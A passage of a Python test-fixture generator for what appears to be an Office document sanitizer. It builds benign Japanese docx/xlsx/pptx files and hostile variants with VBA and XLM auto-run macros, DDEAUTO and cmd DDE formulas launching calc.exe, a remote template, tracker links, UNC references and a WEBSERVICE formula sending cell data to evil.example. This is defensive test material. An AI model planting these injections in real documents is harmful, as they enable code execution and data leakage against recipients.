"""OOXML samples: benign Japanese documents made with python-docx/openpyxl/python-pptx,
and hostile variants made by injecting parts and relationships with zipfile.
"""
from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

from . import Sample, generator

JA_TITLE = "令和6年度 住民税のお知らせ"
JA_BODY = "市民課からのお知らせです。申請書は窓口または電子申請で受け付けています。"
JA_ROWS = [("氏名", "住所", "金額"), ("山田太郎", "東京都千代田区1-1", "12000"), ("佐藤花子", "大阪府大阪市2-2", "8500")]
RUBY_BASE, RUBY_TEXT = "漢字", "かんじ"
DDE_RESULT = "請求書を開く"
FAKE_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + b"Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\n"
PASSWORD = "himitsu-2024"

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
MSR = "http://schemas.microsoft.com/office/2006/relationships/"
W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def png_bytes(w: int = 160, h: int = 100, color: tuple[int, int, int] = (30, 120, 200)) -> bytes:
    from PIL import Image, ImageDraw

    img = Image.new("RGB", (w, h), color)
    ImageDraw.Draw(img).rectangle([10, 10, w - 10, h - 10], outline=(255, 255, 255), width=4)
    buf = io.BytesIO()
    img.save(buf, "PNG")
    return buf.getvalue()


# ------------------------------------------------------------------ benign builders

def make_docx(path: Path, pages: int = 1, pictures: int = 1, image: bytes | None = None) -> Path:
    import docx
    from docx.shared import Cm

    d = docx.Document()
    d.core_properties.author = "市民課 担当者"
    d.core_properties.title = JA_TITLE
    d.sections[0].header.paragraphs[0].text = "○○市役所"
    d.sections[0].footer.paragraphs[0].text = "問い合わせ先: 市民課"
    img = io.BytesIO(image or png_bytes())
    for page in range(pages):
        d.add_heading(JA_TITLE if page == 0 else f"{JA_TITLE}（{page + 1}）", level=1)
        for i in range(6 if pages > 1 else 1):
            d.add_paragraph(JA_BODY + (f" 第{i + 1}項。" * 3 if pages > 1 else ""))
        t = d.add_table(rows=len(JA_ROWS), cols=3)
        for r, row in enumerate(JA_ROWS):
            for c, val in enumerate(row):
                t.cell(r, c).text = val
        if page < pictures:
            img.seek(0)
            d.add_picture(img, width=Cm(4))
        if pages > 1 and page < pages - 1:
            d.add_page_break()
    p = d.add_paragraph("コメント付きの段落")
    try:
        d.add_comment(p.runs, text="確認してください", author="審査担当")
    except Exception:  # python-docx < 1.2 has no comments API
        pass
    d.save(path)
    # Ruby (furigana), as Word writes it.
    ruby = (f'<w:p><w:r><w:t xml:space="preserve">ふりがな: </w:t></w:r><w:r><w:ruby><w:rubyPr><w:rubyAlign w:val="distributeSpace"/>'
            f'<w:hps w:val="10"/><w:hpsRaise w:val="18"/><w:hpsBaseText w:val="21"/><w:lid w:val="ja-JP"/>'
            f'</w:rubyPr><w:rt><w:r><w:t>{RUBY_TEXT}</w:t></w:r></w:rt><w:rubyBase><w:r><w:t>{RUBY_BASE}</w:t>'
            f'</w:r></w:rubyBase></w:ruby></w:r></w:p>')
    patch(path, path, edit={"word/document.xml": lambda s: s.replace("<w:sectPr", ruby + "<w:sectPr", 1)})
    return path


def make_xlsx(path: Path, rows: int = 0) -> Path:
    import openpyxl
    from openpyxl.chart import BarChart, Reference
    from openpyxl.formatting.rule import CellIsRule
    from openpyxl.styles import Font, PatternFill
    from openpyxl.workbook.defined_name import DefinedName
    from openpyxl.worksheet.datavalidation import DataValidation

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "集計表"
    ws.append(["地区", "人口", "世帯数", "1世帯あたり"])
    data = [("中央区", 12000, 5000), ("北区", 8000, 3500), ("南区", 9500, 4100)]
    for i, (name, pop, hh) in enumerate(data, start=2):
        ws.append([name, pop, hh, f"=B{i}/C{i}"])
    ws["A6"] = "合計"
    ws["B6"] = "=SUM(B2:B4)"
    ws["A1"].font = Font(bold=True)
    ws["A1"].fill = PatternFill("solid", fgColor="FFFF00")
    dv = DataValidation(type="list", formula1='"中央区,北区,南区"', allow_blank=True)
    ws.add_data_validation(dv)
    dv.add("A8")
    ws.conditional_formatting.add("B2:B4", CellIsRule(operator="greaterThan", formula=["10000"],
                                                      fill=PatternFill("solid", fgColor="FFC7CE")))
    wb.defined_names["人口計"] = DefinedName("人口計", attr_text="'集計表'!$B$6")
    chart = BarChart()
    chart.title = "地区別人口"
    chart.add_data(Reference(ws, min_col=2, min_row=1, max_row=4), titles_from_data=True)
    chart.set_categories(Reference(ws, min_col=1, min_row=2, max_row=4))
    ws.add_chart(chart, "F2")
    ws2 = wb.create_sheet("名簿")
    for row in JA_ROWS:
        ws2.append(list(row))
    for r in range(rows):
        ws2.append([f"住民{r}", r, r * 2, r % 7, f"区{r % 5}", r * 0.5, r + 1, r * 3, f"備考{r}", r])
    wb.save(path)
    cached = {"D2": "2.4", "D3": "2.2857142857142856", "D4": "2.3170731707317072", "B6": "29500"}
    patch(path, path, edit={"xl/worksheets/sheet1.xml": lambda s: set_cached(s, cached)})
    return path


def set_cached(sheet_xml: str, values: dict[str, str]) -> str:
    """openpyxl writes formulas without cached values; add them as Excel would."""
    for ref, val in values.items():
        sheet_xml = re.sub(rf'(<c r="{ref}"[^>]*>)<f>([^<]*)</f><v\s*/?>(</v>)?', rf"\1<f>\2</f><v>{val}</v>", sheet_xml)
    return sheet_xml


def make_pptx(path: Path, slides: int = 3, chart: bool = True, image: bytes | None = None) -> Path:
    from pptx import Presentation
    from pptx.chart.data import CategoryChartData
    from pptx.enum.chart import XL_CHART_TYPE
    from pptx.util import Cm

    prs = Presentation()
    img = io.BytesIO(image or png_bytes())
    for n in range(slides):
        s = prs.slides.add_slide(prs.slide_layouts[1] if n else prs.slide_layouts[0])
        s.shapes.title.text = JA_TITLE if n == 0 else f"第{n}章 手続きの流れ"
        body = s.placeholders[1]
        body.text = JA_BODY if n else "○○市 市民課"
        if n == 1:
            tbl = s.shapes.add_table(3, 3, Cm(2), Cm(9), Cm(18), Cm(3)).table
            for r, row in enumerate(JA_ROWS):
                for c, val in enumerate(row):
                    tbl.cell(r, c).text = val
        if n in (1, 5):
            img.seek(0)
            s.shapes.add_picture(img, Cm(20), Cm(2), width=Cm(4))
        if n == 2 and chart:
            cd = CategoryChartData()
            cd.categories = ["中央区", "北区", "南区"]
            cd.add_series("人口", (12000, 8000, 9500))
            s.shapes.add_chart(XL_CHART_TYPE.COLUMN_CLUSTERED, Cm(2), Cm(8), Cm(14), Cm(8), cd)
        s.notes_slide.notes_text_frame.text = f"発表者メモ {n + 1}"
    prs.save(path)
    return path


# ------------------------------------------------------------------ zip surgery

Edit = Callable[[str], str]


def patch(src: Path, dst: Path, *, edit: dict[str, Edit] | None = None, add: dict[str, bytes | str] | None = None,
          drop: set[str] | None = None) -> Path:
    """Rewrite a package: edit text members, add members, drop members."""
    edit, add, drop = edit or {}, add or {}, drop or set()
    with zipfile.ZipFile(src) as zin:
        members = [(i, zin.read(i.filename)) for i in zin.infolist()]
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zout:
        for info, data in members:
            if info.filename in drop:
                continue
            if info.filename in edit:
                data = edit[info.filename](data.decode("utf-8")).encode("utf-8")
            zout.writestr(info.filename, data)
        for name, data in add.items():
            zout.writestr(name, data.encode("utf-8") if isinstance(data, str) else data)
    Path(dst).write_bytes(buf.getvalue())
    return Path(dst)


def add_rel(rels_xml: str, rid: str, rtype: str, target: str, external: bool = False) -> str:
    mode = ' TargetMode="External"' if external else ""
    return rels_xml.replace("</Relationships>",
                            f'<Relationship Id="{rid}" Type="{rtype}" Target="{target}"{mode}/></Relationships>')


def add_ct(ct_xml: str, part: str | None = None, ct: str = "", ext: str | None = None) -> str:
    el = f'<Default Extension="{ext}" ContentType="{ct}"/>' if ext else f'<Override PartName="{part}" ContentType="{ct}"/>'
    return ct_xml.replace("</Types>", el + "</Types>")


def set_main_ct(ct_xml: str, old: str, new: str) -> str:
    return ct_xml.replace(f'ContentType="{old}"', f'ContentType="{new}"')


def body_insert(xml: str, fragment: str) -> str:
    return xml.replace("<w:sectPr", fragment + "<w:sectPr", 1)


def rels_edit(*rels: tuple) -> Edit:
    def f(s: str) -> str:
        for r in rels:
            s = add_rel(s, *r)
        return s
    return f


# ------------------------------------------------------------------ generators

WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
XL_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
PPT_MAIN = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
DOC_RELS = "word/_rels/document.xml.rels"
WB_RELS = "xl/_rels/workbook.xml.rels"


def _ct(*changes: tuple) -> Edit:
    def f(s: str) -> str:
        for kind, *args in changes:
            s = set_main_ct(s, *args) if kind == "main" else add_ct(s, *args) if kind == "part" else \
                add_ct(s, ct=args[1], ext=args[0])
        return s
    return f


def _field(instr: str, result: str) -> str:
    return ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            f'<w:r><w:instrText xml:space="preserve"> {instr} </w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
            f'<w:r><w:t>{result}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


ONLINE_VIDEO_BLIP = (
    '<a:blip r:embed="{rid}"><a:extLst><a:ext uri="{{C809E66F-F1BF-436E-b5F7-EEA9579F0CBA}}"><wp15:webVideoPr '
    'xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing" embeddedHtml="&lt;iframe '
    'src=&quot;https://203.0.113.9/v.html&quot; width=&quot;560&quot;&gt;&lt;/iframe&gt;" h="315" w="560"/>'
    '</a:ext></a:extLst></a:blip>')
XML_MAP_BOUND = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><MapInfo xmlns="http://schemas.openxmlformats.org/'
    'spreadsheetml/2006/main" SelectionNamespaces=""><Schema ID="Schema1"/><Map ID="1" Name="申請_Map" '
    'RootElement="申請" SchemaID="Schema1" ShowImportExportValidationErrors="false" AutoFit="true" Append="false" '
    'PreserveSortAFLayout="true" PreserveFormat="true"><DataBinding FileBinding="true" '
    'FileBindingName="http://203.0.113.7/feed.xml" DataBindingLoadMode="1"/></Map></MapInfo>')

# An XML map with its schema as Excel embeds it: two schemas joined by ID (Schema1 imports Schema2), and
# {refs}: where the hostile sample has a schema pulled from a UNC path and one from a web address.
XML_MAP_SCHEMAS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><MapInfo xmlns="http://schemas.openxmlformats.org/'
    'spreadsheetml/2006/main" SelectionNamespaces="xmlns:ns1=\'urn:jp:lg:shinsei\'"><Schema ID="Schema1" '
    'SchemaRef="Schema2" Namespace="urn:jp:lg:shinsei"><xsd:schema xmlns="" xmlns:xsd="http://www.w3.org/2001/'
    'XMLSchema" xmlns:ns0="urn:jp:lg:shinsei" xmlns:ns2="urn:jp:lg:common" targetNamespace="urn:jp:lg:shinsei">'
    '<xsd:import namespace="urn:jp:lg:common" schemaLocation="Schema2"/>{refs}<xsd:annotation><xsd:documentation '
    'xml:lang="ja">転入届の様式</xsd:documentation></xsd:annotation><xsd:element nillable="true" name="申請" '
    'type="ns0:申請型"/><xsd:complexType name="申請型"><xsd:sequence minOccurs="0"><xsd:element minOccurs="0" '
    'nillable="true" type="xsd:string" name="氏名" form="unqualified"/><xsd:element ref="ns2:住所"/>'
    '</xsd:sequence></xsd:complexType></xsd:schema></Schema><Schema ID="Schema2" Namespace="urn:jp:lg:common">'
    '<xsd:schema xmlns:xsd="http://www.w3.org/2001/XMLSchema" xmlns="urn:jp:lg:common" '
    'targetNamespace="urn:jp:lg:common"><xsd:element name="住所" type="xsd:string"/></xsd:schema></Schema>'
    '<Map ID="1" Name="申請_Map" RootElement="申請" SchemaID="Schema1" ShowImportExportValidationErrors="false" '
    'AutoFit="true" Append="false" PreserveSortAFLayout="true" PreserveFormat="true"/></MapInfo>')
XML_MAP_OUTSIDE_SCHEMAS = (
    '<xsd:import namespace="urn:x" schemaLocation="\\\\203.0.113.9\\schemas\\x.xsd"/>'
    '<xsd:include schemaLocation="http://203.0.113.9/inc.xsd"/>')


# Another workbook on the sender's server, as a chart's data references would name it.
EXTERNAL_BOOK = "'\\\\203.0.113.9\\s\\[x.xlsx]集計表'"
_C_DECL = 'xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart"'


def chart_reading_another_book(x: str) -> str:
    """make_xlsx's chart with the caches Excel writes, a series name, a title, categories in two
    levels and a label range (c15) all read from another workbook by a UNC path."""
    num = ('<c:numRef><c:f>{ref}!$B$2:$B$4</c:f><c:numCache><c:formatCode>General</c:formatCode><c:ptCount val="3"/>'
           '<c:pt idx="0"><c:v>120</c:v></c:pt><c:pt idx="1"><c:v>80</c:v></c:pt><c:pt idx="2"><c:v>45</c:v></c:pt>'
           '</c:numCache></c:numRef>')
    name = '<c:strRef><c:f>{ref}!$B$1</c:f><c:strCache><c:ptCount val="1"/><c:pt idx="0"><c:v>人口</c:v></c:pt></c:strCache></c:strRef>'
    x = x.replace("<chartSpace ", f"<chartSpace {_C_DECL} ").replace(
        "<val><numRef><f>'集計表'!$B$2:$B$4</f></numRef></val>", "<val>" + num.format(ref=EXTERNAL_BOOK) + "</val>")
    x = x.replace("<tx><strRef><f>'集計表'!B1</f></strRef></tx>", "<tx>" + name.format(ref=EXTERNAL_BOOK) + "</tx>")
    x = x.replace("<cat><numRef><f>'集計表'!$A$2:$A$4</f></numRef></cat>",
                  f"<cat><c:multiLvlStrRef><c:f>{EXTERNAL_BOOK}!$A$2:$A$4</c:f></c:multiLvlStrRef></cat>")
    title = ("<title><tx>" + name.format(ref=EXTERNAL_BOOK) + "</tx></title>")
    x = re.sub(r"<title>.*?</title>", lambda m: title, x, count=1)
    ext = ('<c:extLst><c:ext uri="{02D57815-91ED-43cb-92C2-25804820EDAC}" xmlns:c15="http://schemas.microsoft.com/'
           f'office/drawing/2012/chart"><c15:datalabelsRange><c15:f>{EXTERNAL_BOOK}!$C$2:$C$4</c15:f></c15:datalabelsRange>'
           '</c:ext></c:extLst>')
    return x.replace("</ser>", ext + "</ser>")


@generator("ooxml")
def ooxml_samples(out: Path) -> list[Sample]:
    base = out / "ooxml"
    (base / "benign").mkdir(parents=True, exist_ok=True)
    (base / "hostile").mkdir(parents=True, exist_ok=True)
    samples: list[Sample] = []

    def s(rel: str, verdict: str, threats: list[str] | None = None, note: str = "", pw: str | None = None):
        samples.append(Sample(f"ooxml/{rel}", verdict, threats or [], note, pw))

    docx_p = make_docx(base / "benign" / "notice.docx")
    xlsx_p = make_xlsx(base / "benign" / "population.xlsx")
    pptx_p = make_pptx(base / "benign" / "briefing.pptx")
    s("benign/notice.docx", "clean", note="Japanese text, table, picture, header/footer, comment, ruby")
    s("benign/population.xlsx", "clean", note="formulas with cached values, chart, validation, conditional format")
    s("benign/briefing.pptx", "clean", note="slides with table, picture, chart with embedded workbook, notes")
    h = base / "hostile"

    # VBA projects in every macro-enabled flavour.
    vba_ct = ("ext", "bin", "application/vnd.ms-office.vbaProject")
    patch(docx_p, h / "vba.docm", add={"word/vbaProject.bin": FAKE_OLE},
          edit={DOC_RELS: rels_edit(("rIdVba", MSR + "vbaProject", "vbaProject.bin")),
                "[Content_Types].xml": _ct(("main", WORD_MAIN, "application/vnd.ms-word.document.macroEnabled.main+xml"),
                                           vba_ct)})
    s("hostile/vba.docm", "sanitized", ["ooxml.vba", "ooxml.macro_content_type"])
    patch(xlsx_p, h / "vba.xlsm", add={"xl/vbaProject.bin": FAKE_OLE},
          edit={WB_RELS: rels_edit(("rIdVba", MSR + "vbaProject", "vbaProject.bin")),
                "[Content_Types].xml": _ct(("main", XL_MAIN, "application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
                                           vba_ct)})
    s("hostile/vba.xlsm", "sanitized", ["ooxml.vba", "ooxml.macro_content_type"])
    patch(pptx_p, h / "vba.pptm", add={"ppt/vbaProject.bin": FAKE_OLE},
          edit={"ppt/_rels/presentation.xml.rels": rels_edit(("rIdVba", MSR + "vbaProject", "vbaProject.bin")),
                "[Content_Types].xml": _ct(("main", PPT_MAIN,
                                            "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"),
                                           vba_ct)})
    s("hostile/vba.pptm", "sanitized", ["ooxml.vba", "ooxml.macro_content_type"])

    # XLM 4.0 macro sheet started by an Auto_Open name.
    macro = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><xm:macrosheet '
             'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
             'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1">'
             '<c r="A1"><f>EXEC("calc.exe")</f></c></row><row r="2"><c r="A2"><f>HALT()</f></c></row>'
             '</sheetData></xm:macrosheet>')
    patch(xlsx_p, h / "xlm_auto_open.xlsm", add={"xl/macrosheets/sheet1.xml": macro},
          edit={WB_RELS: rels_edit(("rIdXlm", MSR + "xlMacrosheet", "macrosheets/sheet1.xml")),
                "xl/workbook.xml": lambda x: x.replace("</sheets>", '<sheet xmlns:r="http://schemas.openxmlformats.org/'
                                                       'officeDocument/2006/relationships" name="Macro1" sheetId="9" '
                                                       'state="hidden" r:id="rIdXlm"/></sheets>')
                .replace("<definedNames>", '<definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1'
                         '</definedName>'),
                "[Content_Types].xml": _ct(("main", XL_MAIN, "application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
                                           ("part", "/xl/macrosheets/sheet1.xml",
                                            "application/vnd.ms-excel.macrosheet+xml"))})
    s("hostile/xlm_auto_open.xlsm", "sanitized", ["ooxml.xlm_macrosheet", "ooxml.macro_content_type"])

    # ActiveX control in Word.
    ax = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><ax:ocx ax:classid="{8BD21D40-EC42-11CE-9E0D-'
          '00AA006002F3}" ax:persistence="persistStorage" r:id="rId1" xmlns:ax="http://schemas.microsoft.com/office/'
          '2006/activeX" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/>')
    patch(docx_p, h / "activex.docx",
          add={"word/activeX/activeX1.xml": ax, "word/activeX/activeX1.bin": FAKE_OLE,
               "word/activeX/_rels/activeX1.xml.rels": add_rel(
                   '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.'
                   'openxmlformats.org/package/2006/relationships"></Relationships>', "rId1",
                   MSR + "activeXControlBinary", "activeX1.bin")},
          edit={DOC_RELS: rels_edit(("rIdAx", R + "control", "activeX/activeX1.xml")),
                "word/document.xml": lambda x: body_insert(
                    x, '<w:p><w:r><w:object><w:control r:id="rIdAx" w:name="CheckBox1" w:shapeid="_x0000_i1025"/>'
                       '</w:object></w:r></w:p>'),
                "[Content_Types].xml": _ct(("part", "/word/activeX/activeX1.xml",
                                            "application/vnd.ms-office.activeX+xml"),
                                           ("ext", "bin", "application/vnd.ms-office.activeX"))})
    s("hostile/activex.docx", "sanitized", ["ooxml.activex"])
    # Word's online video whose HTML is a page of the sender's (shown in a browser frame on a click).
    patch(docx_p, h / "online_video.docx", edit={"word/document.xml": lambda x: re.sub(
        r'<a:blip r:embed="(rId\d+)"/>', lambda m: ONLINE_VIDEO_BLIP.format(rid=m.group(1)), x, count=1)})
    s("hostile/online_video.docx", "sanitized", ["ooxml.online_video"], "the poster picture kept")
    # A bibliography whose citation style (an XSLT Word runs) is named by a UNC path.
    patch(docx_p, h / "bibliography_style.docx", edit={"customXml/item1.xml": lambda x: x.replace(
        'SelectedStyle="/APA.XSL"', 'SelectedStyle="\\\\203.0.113.9\\styles\\apa.xsl"')})
    s("hostile/bibliography_style.docx", "sanitized", ["ooxml.external_relationship"],
      "the sources kept, Word's own style used")

    # OLE embedding with a preview picture.
    ole_fragment = ('<w:p><w:r><w:object w:dxaOrig="1440" w:dyaOrig="900"><v:shape id="_x0000_i1026" '
                    'type="#_x0000_t75" style="width:72pt;height:45pt" o:ole=""><v:imagedata r:id="rIdPrev" '
                    'o:title=""/></v:shape><o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1026" '
                    'DrawAspect="Icon" ObjectID="_1234567890" r:id="rIdOle"/></w:object></w:r></w:p>')
    patch(docx_p, h / "ole_object.docx",
          add={"word/embeddings/oleObject1.bin": FAKE_OLE, "word/media/ole_preview.png": png_bytes(80, 50, (200, 0, 0))},
          edit={DOC_RELS: rels_edit(("rIdOle", R + "oleObject", "embeddings/oleObject1.bin"),
                                    ("rIdPrev", R + "image", "media/ole_preview.png")),
                "word/document.xml": lambda x: body_insert(x, ole_fragment),
                "[Content_Types].xml": _ct(("ext", "bin", "application/vnd.openxmlformats-officedocument.oleObject"),
                                           ("ext", "png", "image/png"))})
    s("hostile/ole_object.docx", "sanitized", ["ooxml.ole_object"], "preview picture word/media/ole_preview.png kept")

    # customUI with an onLoad callback.
    cui = ('<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" onLoad="Ribbon_Load"><ribbon>'
           '<tabs><tab id="t" label="x"><group id="g" label="g"><button id="b" label="Run" onAction="Evil"/>'
           '</group></tab></tabs></ribbon></customUI>')
    patch(docx_p, h / "custom_ui.docx", add={"customUI/customUI14.xml": cui},
          edit={"_rels/.rels": rels_edit(("rIdUi", "http://schemas.microsoft.com/office/2007/relationships/ui/"
                                                   "extensibility", "customUI/customUI14.xml"))})
    s("hostile/custom_ui.docx", "sanitized", ["ooxml.custom_ui"])

    # altChunk importing an HTML page.
    patch(docx_p, h / "alt_chunk.docx",
          add={"word/afchunk.htm": "<html><body><script>alert(1)</script><p>imported</p></body></html>"},
          edit={DOC_RELS: rels_edit(("rIdAf", R + "aFChunk", "afchunk.htm")),
                "word/document.xml": lambda x: body_insert(x, '<w:altChunk r:id="rIdAf"/>'),
                "[Content_Types].xml": _ct(("ext", "htm", "text/html"))})
    s("hostile/alt_chunk.docx", "sanitized", ["ooxml.alt_chunk"])

    # Remote template (template injection).
    patch(docx_p, h / "remote_template.docx",
          add={"word/_rels/settings.xml.rels": add_rel(
              '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.'
              'openxmlformats.org/package/2006/relationships"></Relationships>', "rIdT", R + "attachedTemplate",
              "http://evil.example/template.dotm", True)},
          edit={"word/settings.xml": lambda x: x.replace("<w:defaultTabStop",
                                                        '<w:attachedTemplate r:id="rIdT"/><w:defaultTabStop', 1)})
    s("hostile/remote_template.docx", "sanitized", ["ooxml.remote_template"])

    # Linked picture (fetched from the network when the document opens).
    patch(docx_p, h / "linked_picture.docx",
          edit={DOC_RELS: rels_edit(("rIdLink", R + "image", "http://tracker.example/pixel.png", True)),
                "word/document.xml": lambda x: x.replace("<a:blip ", '<a:blip r:link="rIdLink" ', 1)})
    s("hostile/linked_picture.docx", "sanitized", ["ooxml.external_relationship"])

    # DDEAUTO field.
    patch(docx_p, h / "ddeauto.docx", edit={"word/document.xml": lambda x: body_insert(
        x, _field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"', DDE_RESULT))})
    s("hostile/ddeauto.docx", "sanitized", ["ooxml.dde"], f"field result {DDE_RESULT!r} kept as text")

    # Hyperlinks: file:// and javascript: removed, https kept.
    links = ('<w:p><w:hyperlink r:id="rIdH1"><w:r><w:t>ファイルを開く</w:t></w:r></w:hyperlink>'
             '<w:hyperlink r:id="rIdH2"><w:r><w:t>スクリプト</w:t></w:r></w:hyperlink>'
             '<w:hyperlink r:id="rIdH3"><w:r><w:t>市のサイト</w:t></w:r></w:hyperlink></w:p>')
    patch(docx_p, h / "hyperlinks.docx",
          edit={DOC_RELS: rels_edit(("rIdH1", R + "hyperlink", "file:///C:/Windows/System32/calc.exe", True),
                                    ("rIdH2", R + "hyperlink", "javascript:alert(1)", True),
                                    ("rIdH3", R + "hyperlink", "https://www.city.example.lg.jp/", True)),
                "word/document.xml": lambda x: body_insert(x, links)})
    s("hostile/hyperlinks.docx", "sanitized", ["ooxml.hyperlink"], "https link kept")

    # External workbook link with a cached value; WEBSERVICE; DDE formula.
    ext_link = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><externalLink xmlns="http://schemas.'
                'openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/'
                'officeDocument/2006/relationships"><externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/>'
                '</sheetNames><sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1"><v>42</v></cell></row>'
                '</sheetData></sheetDataSet></externalBook></externalLink>')
    ext_rels = add_rel('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.'
                       'openxmlformats.org/package/2006/relationships"></Relationships>', "rId1",
                       R + "externalLinkPath", "file:///C:/secret/budget.xlsx", True)
    patch(xlsx_p, h / "external_link.xlsx",
          add={"xl/externalLinks/externalLink1.xml": ext_link, "xl/externalLinks/_rels/externalLink1.xml.rels": ext_rels},
          edit={WB_RELS: rels_edit(("rIdExt", R + "externalLink", "externalLinks/externalLink1.xml")),
                "xl/workbook.xml": lambda x: x.replace("</sheets>", '</sheets><externalReferences><externalReference '
                                                       'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
                                                       'relationships" r:id="rIdExt"/></externalReferences>'),
                "xl/worksheets/sheet1.xml": lambda x: x.replace("</sheetData>", '<row r="10"><c r="A10"><f>[1]Sheet1!A1'
                                                                '</f><v>42</v></c></row></sheetData>'),
                "[Content_Types].xml": _ct(("part", "/xl/externalLinks/externalLink1.xml", "application/vnd."
                                            "openxmlformats-officedocument.spreadsheetml.externalLink+xml"))})
    s("hostile/external_link.xlsx", "sanitized", ["ooxml.external_link"], "cell A10 keeps 42 as a plain value")
    patch(xlsx_p, h / "webservice.xlsx", edit={"xl/worksheets/sheet1.xml": lambda x: x.replace(
        "</sheetData>", '<row r="11"><c r="A11" t="str"><f>_xlfn.WEBSERVICE("http://evil.example/?q="&amp;B2)</f>'
                        '<v>応答</v></c></row></sheetData>')})
    s("hostile/webservice.xlsx", "sanitized", ["ooxml.dangerous_function"], "A11 keeps its cached text")
    patch(xlsx_p, h / "dde_formula.xlsx", edit={"xl/worksheets/sheet1.xml": lambda x: x.replace(
        "</sheetData>", "<row r=\"12\"><c r=\"A12\"><f>cmd|' /C calc'!A0</f><v>0</v></c></row></sheetData>")})
    s("hostile/dde_formula.xlsx", "sanitized", ["ooxml.dde"])
    # AutoRepublish: Excel writes a web page to a path of the sender's choice on every save.
    patch(xlsx_p, h / "web_publish.xlsx", edit={"xl/worksheets/sheet1.xml": lambda x: x.replace(
        "</worksheet>", '<webPublishItems count="1"><webPublishItem id="1" divId="d1" sourceType="sheet" '
                        'destinationFile="\\\\fs01.example\\公開\\集計.htm" autoRepublish="1"/>'
                        '</webPublishItems></worksheet>')})
    s("hostile/web_publish.xlsx", "sanitized", ["ooxml.web_publish"], "the sheet's cells kept")
    # An XML map that loads its data from a web address.
    patch(xlsx_p, h / "xml_map_binding.xlsx", add={"xl/xmlMaps.xml": XML_MAP_BOUND},
          edit={WB_RELS: rels_edit(("rIdMap", R + "xmlMaps", "xmlMaps.xml"))})
    s("hostile/xml_map_binding.xlsx", "sanitized", ["ooxml.data_connection"], "the map kept, unbound")
    # A chart whose series, name, title, categories and label range read another workbook by a UNC path.
    patch(xlsx_p, h / "chart_external.xlsx", edit={"xl/charts/chart1.xml": chart_reading_another_book})
    s("hostile/chart_external.xlsx", "sanitized", ["ooxml.external_link"], "the chart keeps its cached values")
    # An XML map whose schema imports and includes schemas from a UNC path and a web address.
    patch(xlsx_p, h / "xml_map_schema.xlsx", add={"xl/xmlMaps.xml": XML_MAP_SCHEMAS.format(refs=XML_MAP_OUTSIDE_SCHEMAS)},
          edit={WB_RELS: rels_edit(("rIdMap", R + "xmlMaps", "xmlMaps.xml"))})
    s("hostile/xml_map_schema.xlsx", "sanitized", ["ooxml.external_relationship"],
      "the map and its schemas kept, the outside references cut")

    # PowerPoint: click action that runs a program; OLE object made by python-pptx.
    patch(pptx_p, h / "ppaction_program.pptx",
          edit={"ppt/slides/_rels/slide1.xml.rels": rels_edit(("rIdRun", R + "hyperlink",
                                                                "file:///C:/Windows/System32/calc.exe", True)),
                "ppt/slides/slide1.xml": lambda x: x.replace(
                    '<p:cNvPr id="2" name="Title 1"/>',
                    '<p:cNvPr id="2" name="Title 1"><a:hlinkClick r:id="rIdRun" action="ppaction://program"/>'
                    '</p:cNvPr>', 1)})
    s("hostile/ppaction_program.pptx", "sanitized", ["ooxml.hyperlink"])
    _pptx_ole(h / "ole_object.pptx")
    s("hostile/ole_object.pptx", "sanitized", ["ooxml.ole_object"], "preview picture kept")

    # Encrypted package: with the out-of-band password it is decrypted and rebuilt; without, blocked.
    _encrypt(docx_p, h / "encrypted.docx", PASSWORD)
    _encrypt(docx_p, h / "encrypted_nopass.docx", PASSWORD)
    s("hostile/encrypted.docx", "sanitized", ["ooxml.encrypted"], pw=PASSWORD)
    s("hostile/encrypted_nopass.docx", "blocked", ["ooxml.encrypted"], "no password supplied")

    # xlsb: no safe rebuild.
    xlsb_ct = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.'
               'org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.'
               'openxmlformats-package.relationships+xml"/><Default Extension="bin" ContentType="application/vnd.'
               'ms-excel.sheet.binary.macroEnabled.main"/></Types>')
    xlsb_rels = add_rel('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.'
                        'openxmlformats.org/package/2006/relationships"></Relationships>', "rId1",
